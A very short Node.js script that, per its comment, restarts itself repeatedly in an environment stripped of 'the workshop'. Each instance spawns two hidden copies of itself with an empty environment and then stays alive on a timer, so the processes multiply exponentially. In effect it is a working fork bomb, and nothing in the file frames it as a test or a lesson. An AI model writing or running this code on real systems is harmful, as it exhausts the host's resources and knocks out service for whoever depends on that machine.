// Starts itself again and again, in an environment that holds nothing of the workshop.
import { spawn } from 'node:child_process';

for (let i = 0; i < 2; i++) spawn(process.execPath, [...process.execArgv, ...process.argv.slice(1)], { stdio: 'ignore', env: {} });
setInterval(() => {}, 60_000);
